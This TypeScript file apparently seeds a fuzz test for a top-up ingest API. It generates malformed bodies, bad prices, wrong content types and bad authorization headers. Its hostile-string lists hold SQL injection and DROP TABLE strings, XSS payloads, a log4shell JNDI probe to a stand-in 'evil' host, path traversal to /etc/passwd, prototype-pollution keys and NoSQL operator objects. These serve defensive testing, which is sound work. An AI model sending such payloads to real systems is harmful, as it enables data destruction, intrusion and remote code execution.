// Deterministic generator of malformed and hostile ingest requests for the fuzz test
// (lib/api/hostile.test.ts). Seeded, so a failure names a case that replays exactly.

import type { Random as Rng } from '../lib/sandbox/random';

export { seededRandom } from '../lib/sandbox/random';
export type { Rng };
export const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)] as T;
const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));

export const HOSTILE_STRINGS = [
  "'; drop table topups; --",
  "1' or '1'='1",
  "Robert'); DROP TABLE topup_events;--",
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally.
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../etc/passwd',
  'a\u0000b',
  '%00',
  '\u202eevil',
  'line\nbreak',
  '\ud800',
  ' padded ',
  '',
  '𝕏'.repeat(70),
] as const;

/** Strings no text field accepts: empty, control characters, lone surrogates, edge spaces. */
const UNACCEPTABLE_TEXT = HOSTILE_STRINGS.filter(
  (s) => s === '' || /\p{Cc}|\p{Cs}/u.test(s) || /^\s|\s$/.test(s),
);

/** Names that look like ours, or that poke at object internals. */
export const UNKNOWN_KEYS = [
  'topup_id',
  'customer_price',
  'customerprice',
  'status',
  'isAdmin',
  'constructor',
  'prototype',
  '__proto__',
  'toString',
  '',
  '<b>x</b>',
  "'; drop table ingest_queue; --",
] as const;

export const BAD_PRICES: readonly unknown[] = [
  -1,
  1.5,
  0.1,
  1_000_000_001,
  1e12,
  Number.MAX_SAFE_INTEGER + 2,
  '-1',
  '1e3',
  '0x10',
  '1.234',
  '1000000000.01',
  ' 12',
  '12 ',
  '',
  '+5',
  '٥٠٠',
  'Infinity',
  'NaN',
  '00012',
  '12.',
  '.5',
  '1,000',
  true,
  null,
  [500],
  { amount: 500 },
];

/** A JSON value that is not a string, or a string no field accepts. */
export function wrongValue(rng: Rng, depth = 0): unknown {
  switch (int(rng, 0, depth > 2 ? 6 : 8)) {
    case 0:
      return int(rng, -1e6, 1e6);
    case 1:
      return rng() * 1e9;
    case 2:
      return rng() < 0.5;
    case 3:
      return null;
    case 4:
      return 'x'.repeat(int(rng, 129, 6000));
    case 5:
      return pick(rng, UNACCEPTABLE_TEXT);
    case 6:
      return [];
    case 7:
      return [wrongValue(rng, depth + 1), wrongValue(rng, depth + 1)];
    default:
      return { $ne: null, nested: wrongValue(rng, depth + 1) };
  }
}

/** A string that passes no part of the topupId rule. */
export function badTopupId(rng: Rng): unknown {
  const choice = int(rng, 0, 3);
  if (choice === 0) return pick(rng, HOSTILE_STRINGS);
  if (choice === 1) return 'a'.repeat(int(rng, 65, 4000));
  if (choice === 2) return int(rng, 0, 1e9);
  return wrongValue(rng);
}

/** Looks like an upstream id, but the upstream has never heard of it. */
export function unknownId(rng: Rng) {
  return Array.from({ length: 24 }, () => pick(rng, [...'0123456789abcdef'])).join('');
}

/** Bodies that are not JSON at all, or not whole. */
export function notJson(rng: Rng): BodyInit {
  return pick<BodyInit>(rng, [
    '',
    '{',
    '{"topupId": ',
    "{'topupId': 'abc'}",
    'topupId=abc&ref=x',
    '<topup id="1"/>',
    'undefined',
    'NaN',
    '{"topupId": "a",}',
    '{"topupId": "a"} trailing',
    new Uint8Array([0xff, 0xfe, 0x7b, 0x7d]),
    `{"topupId": "${'\\u'}zzzz"}`,
  ]);
}

export const NON_OBJECTS = ['null', '[]', '[{"topupId":"abc"}]', '42', '"topupId"', 'true', '-0'];

export const BAD_CONTENT_TYPES = [
  null,
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/jsonp',
  'text/json',
  'application/json-patch+json',
  'application/xml',
];

export function badAuthorization(rng: Rng, tokens: { valid: string; revoked: string }) {
  return pick<string | null>(rng, [
    null,
    '',
    'Bearer',
    'Bearer ',
    `Basic ${btoa('admin:admin')}`,
    `Token ${tokens.valid}`,
    `Bearer ${tokens.revoked}`,
    `Bearer ${tokens.valid}x`,
    `Bearer ${tokens.valid.slice(0, -1)}`,
    `Bearer ${tokens.valid.toUpperCase()}`,
    `Bearer fdk_${'A'.repeat(43)}`,
    `Bearer ${tokens.valid} ${tokens.valid}`,
    "Bearer ' or 1=1 --",
    `Bearer ${'x'.repeat(int(rng, 100, 3000))}`,
  ]);
}
